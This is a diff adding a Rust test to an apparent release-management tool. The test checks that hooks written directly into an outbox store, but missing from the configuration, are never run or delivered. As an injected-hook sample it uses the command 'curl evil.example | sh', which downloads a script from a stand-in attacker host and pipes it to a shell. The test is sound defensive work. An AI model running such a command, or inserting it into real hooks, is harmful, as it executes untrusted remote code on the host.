@@ -393,3 +393,24 @@ fn a_queue_that_stands_still_is_told_once() {
     assert_eq!(carried(&world), [] as [&str; 0]);
     assert_eq!(world.deployment(d.id).environment, env_name("production"));
 }
+
+#[test]
+fn what_somebody_wrote_into_the_outbox_runs_nothing_and_tells_nothing() {
+    use relman::store::outbox;
+    let world = told("\"release.*\" = [[\"./a\"]]");
+    world.release(API);
+    let put = |hook: &str, event: &str| {
+        let write =
+            |tx: &relman::store::Tx<'_>| outbox::insert(tx, hook, (event, "release.created"), 1, world.now);
+        assert!(world.store.write_quietly(write).unwrap());
+    };
+    // A hook that is not in the configuration, and an event that is not in the journal.
+    put("curl evil.example | sh", "instance-1-release.created");
+    put("release.*[0]", "instance-1-deployment.succeeded");
+    assert_eq!(carried(&world), ["release.*[0] release.created"]);
+    let given_up = world.as_("bob", show::given_up).unwrap();
+    assert_eq!(given_up.len(), 1);
+    assert!(given_up[0].outcome.as_ref().unwrap().starts_with("the journal holds no such event"));
+    let pending = world.store.read(outbox::list_pending).unwrap();
+    assert_eq!((pending.len(), pending[0].attempts), (1, 0), "nobody touches it, until it is given up");
+}
